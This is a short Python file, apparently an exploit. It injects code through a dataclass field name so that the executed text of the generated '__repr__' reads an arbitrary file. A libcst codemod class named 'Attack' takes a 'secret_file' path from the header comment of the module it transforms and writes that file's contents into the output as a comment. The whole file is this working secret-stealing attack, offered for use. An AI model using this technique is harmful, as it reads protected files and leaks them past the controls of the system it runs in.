"""Put code into the name of a field, of which ``dataclasses`` writes the text of a ``__repr__`` that it executes."""

import ast
from dataclasses import dataclass

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    @dataclass(init=False, eq=False)
    class Loot:
        __module__ = "dataclasses"
        __annotations__ = {f'" + open({path!r}).read() #': str}

    return repr(Loot()).rpartition("(")[2].strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a field."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
